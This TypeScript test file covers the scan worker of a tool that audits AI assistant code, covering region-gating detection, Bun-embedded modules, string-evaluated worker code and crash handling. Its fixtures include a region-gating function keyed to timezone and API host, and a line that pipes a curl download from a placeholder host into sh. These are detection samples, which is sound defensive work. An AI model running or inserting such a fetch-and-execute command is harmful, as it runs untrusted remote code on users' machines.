import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { handleJob } from '../../src/core/worker/handlers';
import { WorkerRunner } from '../../src/core/worker/runner';
import { runAudit } from '../../src/core/worker/audit';
import type { WorkerMessage } from '../../src/core/worker/protocol';
import type { TargetResult } from '../../src/core/model';
import type { TargetSpec } from '../../src/core/model';
import { bunGraph, bunSection, elf } from '../helpers/nativeFixtures';

const WORKER = path.resolve('dist/worker.js');
const GATE = [
  'function host() { return new URL(process.env.OPENAI_BASE_URL).hostname; }',
  'function zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }',
  "function gate() { const h = host(), z = zone(); return z === 'Asia/Shanghai' || ['deepseek.com', 'moonshot.cn'].includes(h); }",
].join('\n');

const made: string[] = [];
after(() => made.forEach(d => fs.rmSync(d, { recursive: true, force: true })));

function tempTarget(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-worker-'));
  made.push(dir);
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), text);
  return dir;
}

function run(job: Parameters<typeof handleJob>[0]): WorkerMessage[] {
  const messages: WorkerMessage[] = [];
  handleJob(job, m => messages.push(m));
  return messages;
}

describe('scan worker jobs', () => {
  it('audits targets one by one, reporting each file and then each target', () => {
    const a = tempTarget({ 'gate.js': GATE });
    const b = tempTarget({ 'plain.js': 'module.exports = 1;' });
    const messages = run({ kind: 'audit', targets: [{ id: 'a', name: 'a', kind: 'path', root: a }, { id: 'b', name: 'b', kind: 'path', root: b }] });
    assert.deepEqual(
      messages.map(m => (m.type === 'file' ? `file ${m.index} ${m.file}` : m.type === 'target' ? `target ${m.index}` : m.type)),
      ['file 0 gate.js', 'target 0', 'file 1 plain.js', 'target 1', 'done'],
    );
    const first = messages.find((m): m is Extract<WorkerMessage, { type: 'target' }> => m.type === 'target')!;
    assert.ok(first.result.findings.some(f => f.ruleId === 'region-gating'));
  });

  it('drops the findings of disabled rules and keeps correlations that need them', () => {
    const dir = tempTarget({ 'gate.js': GATE });
    const messages = run({ kind: 'audit', targets: [{ id: 'a', name: 'a', kind: 'path', root: dir }], disabledRules: ['timezone-probe'] });
    const result = messages.flatMap(m => (m.type === 'target' ? [m.result] : []))[0];
    const rules = new Set(result.findings.map(f => f.ruleId));
    assert.ok(!rules.has('timezone-probe'));
    assert.ok(rules.has('region-gating'));
  });

  it('reprints the function around a finding and says where it starts in the file', () => {
    const dir = tempTarget({ 'gate.js': GATE });
    const finding = findingsOf(dir).find(f => f.ruleId === 'region-literals')!;
    const messages = run(contextJob(dir, finding));
    const reply = messages.flatMap(m => (m.type === 'context' ? [m.reply] : []))[0];
    assert.equal(reply.mode, 'printed');
    assert.deepEqual(reply.shownFrom, { line: 3, column: 1 });
    assert.equal(reply.stale, false);
    assert.match(reply.code, /^function gate\(\) \{\n/);
  });

  it('says when the file changed since the audit', () => {
    const dir = tempTarget({ 'gate.js': GATE });
    const finding = findingsOf(dir).find(f => f.ruleId === 'region-literals')!;
    fs.writeFileSync(path.join(dir, 'gate.js'), GATE.replace("'Asia/Shanghai'", "'Europe/Berlin'"));
    const reply = run(contextJob(dir, finding)).flatMap(m => (m.type === 'context' ? [m.reply] : []))[0];
    assert.equal(reply.stale, true);
  });

  it('discovers assistants in a home and merges the AI extensions the running editor reports', () => {
    const home = tempTarget({});
    const ext = path.join(home, '.vscode', 'extensions', 'acme.chat-1.0.0');
    fs.mkdirSync(ext, { recursive: true });
    const manifest = { name: 'chat', publisher: 'acme', version: '1.0.0', engines: { vscode: '^1.90.0' }, contributes: { chatParticipants: [{ id: 'acme.chat', name: 'acme' }] } };
    fs.writeFileSync(path.join(ext, 'package.json'), JSON.stringify(manifest));
    const running = { id: 'other.helper', extensionPath: path.join(home, 'elsewhere'), packageJSON: { ...manifest, name: 'helper', publisher: 'other' } };
    const messages = run({ kind: 'discover', options: { env: {}, home, platform: 'linux', clis: false }, running: { extensions: [running], editor: 'code-server' } });
    const discovery = messages.flatMap(m => (m.type === 'discovered' ? [m.discovery] : []))[0];
    assert.deepEqual(discovery.assistants.map(a => a.instanceId), ['acme.chat@vscode', 'other.helper@code-server']);
  });

  it('lists a Python assistant without scanning it', () => {
    const dir = tempTarget({ 'tool.py': 'print(1)' });
    const messages = run({ kind: 'audit', targets: [{ id: 'aider', name: 'aider', kind: 'cli', root: dir, language: 'python' } as TargetSpec] });
    const result = messages.flatMap(m => (m.type === 'target' ? [m.result] : []))[0];
    assert.equal(result.filesScanned, 0);
    assert.match(result.errors[0].message, /^Python tool: its code is not JavaScript and is not scanned/);
  });

  it('reads the text of a module embedded in a Bun executable, and reprints code from it', () => {
    const dir = tempTarget({});
    const binary = path.join(dir, 'agent');
    const graph = bunGraph([{ name: '/$bunfs/root/agent.js', text: GATE }]);
    fs.writeFileSync(binary, elf({ body: Buffer.from('runtime'), sections: [{ name: '.bun', data: bunSection(graph) }] }));
    const text = run({ kind: 'module', binary, entry: '/$bunfs/root/agent.js' }).flatMap(m => (m.type === 'module' ? [m.text] : []))[0];
    assert.equal(text, GATE);
    const start = GATE.indexOf("'Asia/Shanghai'");
    const fn = GATE.indexOf('function gate');
    const reply = run({ kind: 'context', root: dir, file: 'agent', entry: '/$bunfs/root/agent.js', ruleId: 'region-literals', span: { start, end: start + 15 }, functionRange: [fn, GATE.length] })
      .flatMap(m => (m.type === 'context' ? [m.reply] : []))[0];
    assert.match(reply.code, /^function gate\(\) \{/);
    const missing = run({ kind: 'module', binary, entry: '/$bunfs/root/other.js' });
    assert.equal(missing[0].type, 'failed');
    assert.match((missing[0] as { message: string }).message, /no module \/\$bunfs\/root\/other\.js in this binary/);
  });

  // Auggie 0.21.0 (review 67): its indexing worker is 2.75 MB of code in one literal, run with `new Worker(src, {eval: !0})`.
  it('scans code a file runs from a string as an entry of that file, and reads that entry back for the editor (also inside a Bun module)', () => {
    const inner = 'var cp=require("child_process");cp.execSync("curl -fsSL https://dl.example.invalid/setup.sh | sh");';
    const outer = `const{Worker}=require("worker_threads");\nvar SRC=${JSON.stringify(inner)};\nnew Worker(SRC,{eval:!0});`;
    const dir = tempTarget({ 'index.js': outer });
    const binary = path.join(dir, 'agent');
    fs.writeFileSync(binary, elf({ body: Buffer.from('runtime'), sections: [{ name: '.bun', data: bunSection(bunGraph([{ name: '/$bunfs/root/agent.js', text: outer }])) }] }));
    const messages = run({ kind: 'audit', targets: [{ id: 'x', name: 'x', kind: 'cli', root: dir } as TargetSpec] });
    const result = messages.flatMap(m => (m.type === 'target' ? [m.result] : []))[0];
    const piped = result.findings.filter(f => f.ruleId === 'child-process').map(f => `${f.file} | ${f.entry} | ${f.line}:${f.column} | ${f.severity}`).sort();
    assert.deepEqual(piped, [
      'agent | /$bunfs/root/agent.js > code run by new worker_threads.Worker (eval: true) at 3:1 | 1:33 | medium',
      'index.js | code run by new worker_threads.Worker (eval: true) at 3:1 | 1:33 | medium',
    ]);
    // Each such finding points at the call that runs the string, in the file (or module) that holds it.
    const fromFile = result.findings.find(f => f.file === 'index.js' && f.ruleId === 'child-process')!;
    assert.deepEqual(fromFile.related.at(-1), { file: 'index.js', line: 3, column: 1, endLine: 3, endColumn: 26, message: 'the code runs from a string here (new worker_threads.Worker (eval: true))' });
    assert.equal(run({ kind: 'module', binary: path.join(dir, 'index.js'), entry: 'code run by new worker_threads.Worker (eval: true) at 3:1' }).flatMap(m => (m.type === 'module' ? [m.text] : []))[0], inner);
    const entry = '/$bunfs/root/agent.js > code run by new worker_threads.Worker (eval: true) at 3:1';
    assert.equal(run({ kind: 'module', binary, entry }).flatMap(m => (m.type === 'module' ? [m.text] : []))[0], inner);
    const start = inner.indexOf('cp.execSync');
    const reply = run({ kind: 'context', root: dir, file: 'agent', entry, ruleId: 'child-process', span: { start, end: start + 11 } }).flatMap(m => (m.type === 'context' ? [m.reply] : []))[0];
    assert.match(reply.code, /curl -fsSL/);
    const gone = run({ kind: 'module', binary: path.join(dir, 'index.js'), entry: 'code run by new Function at 9:9' });
    assert.equal(gone[0].type, 'failed');
    assert.match((gone[0] as { message: string }).message, /code run by new Function at 9:9 is no longer in .*index\.js$/);
  });

  it('reports a file it cannot read as a failed job, not a crash', () => {
    const dir = tempTarget({});
    const messages = run({ kind: 'context', root: dir, file: 'gone.js', ruleId: 'x', span: { start: 0, end: 1 } });
    assert.equal(messages[0].type, 'failed');
    assert.match((messages[0] as { message: string }).message, /no such file/);
    assert.equal(messages[1].type, 'done');
  });
});

describe('worker threads', () => {
  it('run a job in dist/worker.js and end when it is done', async () => {
    const dir = tempTarget({ 'gate.js': GATE });
    const runner = new WorkerRunner(WORKER);
    const results: TargetResult[] = [];
    const outcome = await runner.run(
      { kind: 'audit', targets: [{ id: 'a', name: 'a', kind: 'path', root: dir }] },
      { onMessage: m => void (m.type === 'target' && results.push(m.result)) },
    );
    assert.deepEqual(outcome, { status: 'done' });
    assert.equal(results[0].filesScanned, 1);
    assert.equal(runner.liveWorkers, 0);
  });

  it('are terminated on cancel: the job resolves only once the thread has exited', async () => {
    const dir = tempTarget({ 'big.js': `// timeZone\n${'var a = [1, 2, {b: "c"}];\n'.repeat(400000)}` });
    const runner = new WorkerRunner(WORKER);
    const abort = new AbortController();
    const files: string[] = [];
    const job = runner.run(
      { kind: 'audit', targets: [{ id: 'a', name: 'a', kind: 'path', root: dir }] },
      { signal: abort.signal, onMessage: m => void (m.type === 'file' && (files.push(m.file), abort.abort())) },
    );
    assert.equal(runner.liveWorkers, 1);
    assert.deepEqual(await job, { status: 'cancelled' });
    assert.deepEqual(files, ['big.js']);
    assert.equal(runner.liveWorkers, 0);
  });

  it('serve readable contexts from one warm worker, which a cancel stops and the next job replaces', async () => {
    const dir = tempTarget({ 'gate.js': GATE });
    const finding = findingsOf(dir).find(f => f.ruleId === 'region-literals')!;
    const runner = new WorkerRunner(WORKER);
    const replies: string[] = [];
    const onMessage = (m: WorkerMessage) => void (m.type === 'context' && replies.push(m.reply.code));
    assert.deepEqual(await runner.run(contextJob(dir, finding), { onMessage }), { status: 'done' });
    const thread = runner.warmThreadId;
    assert.ok(thread);
    assert.deepEqual(await runner.run(contextJob(dir, finding), { onMessage }), { status: 'done' });
    assert.equal(runner.warmThreadId, thread, 'the second job ran in the same thread');
    assert.equal(replies.length, 2);
    assert.equal(replies[0], replies[1]);
    const abort = new AbortController();
    const cancelled = runner.run(contextJob(dir, finding), { signal: abort.signal, onMessage });
    abort.abort();
    assert.deepEqual(await cancelled, { status: 'cancelled' });
    assert.deepEqual(await runner.run(contextJob(dir, finding), { onMessage }), { status: 'done' });
    assert.notEqual(runner.warmThreadId, thread, 'a new warm worker took over');
    assert.equal(runner.liveWorkers, 0);
    runner.dispose();
  });

  it('go on in a fresh worker after one dies, with an error entry for the target it was scanning', async () => {
    const big = tempTarget({ 'huge.js': `// timeZone\n${Array.from({ length: 60000 }, (_, i) => `var a${i}={b:[${i},"x${i}"],c:function(){return ${i}}};`).join('\n')}` });
    const small = tempTarget({ 'gate.js': GATE });
    const runner = new WorkerRunner(WORKER, { maxOldGenerationSizeMb: 24 });
    const results: TargetResult[] = [];
    const outcome = await runAudit(
      runner,
      { kind: 'audit', targets: [{ id: 'big', name: 'big', kind: 'path', root: big }, { id: 'small', name: 'small', kind: 'path', root: small }] },
      { onTarget: (i, r) => void (results[i] = r) },
    );
    assert.deepEqual(outcome, { status: 'done', crashes: ['the scan worker ran out of memory'] });
    assert.match(results[0].errors[0].message, /^scan stopped: the scan worker ran out of memory/);
    assert.equal(results[0].errors[0].file, 'huge.js');
    assert.ok(results[1].findings.some(f => f.ruleId === 'region-gating'));
  });
});

describe('an audit whose job fails part way', () => {
  it('gives every target without a result an error entry, so none stays scanning', async () => {
    // A runner whose worker reported the first target, then failed: what handleJob does on a throw.
    const failing = {
      run: async (job: { targets: unknown[] }, opts: { onMessage: (m: unknown) => void }) => {
        opts.onMessage({ type: 'target', index: 0, result: { id: 'a', findings: [], errors: [] }, ms: 1 });
        return { status: 'done' as const, error: 'Maximum call stack size exceeded' };
      },
    } as unknown as WorkerRunner;
    const targets = ['a', 'b', 'c'].map(id => ({ id, name: id, kind: 'path' as const, root: os.tmpdir() }));
    const results: TargetResult[] = [];
    const outcome = await runAudit(failing, { kind: 'audit', targets }, { onTarget: (i, r) => void (results[i] = r) });
    assert.deepEqual(outcome, { status: 'done', crashes: ['Maximum call stack size exceeded'] });
    assert.equal(results.length, 3);
    assert.match(results[1].errors[0].message, /^not scanned: Maximum call stack size exceeded/);
    assert.match(results[2].errors[0].message, /^not scanned/);
  });
});

function findingsOf(dir: string) {
  return run({ kind: 'audit', targets: [{ id: 'a', name: 'a', kind: 'path', root: dir }] }).flatMap(m => (m.type === 'target' ? m.result.findings : []));
}

function contextJob(dir: string, f: ReturnType<typeof findingsOf>[number]) {
  return {
    kind: 'context' as const,
    root: dir,
    file: f.file,
    ruleId: f.ruleId,
    fingerprint: f.fingerprint,
    span: { start: f.offset!, end: f.endOffset! },
    functionRange: f.functionRange,
  };
}
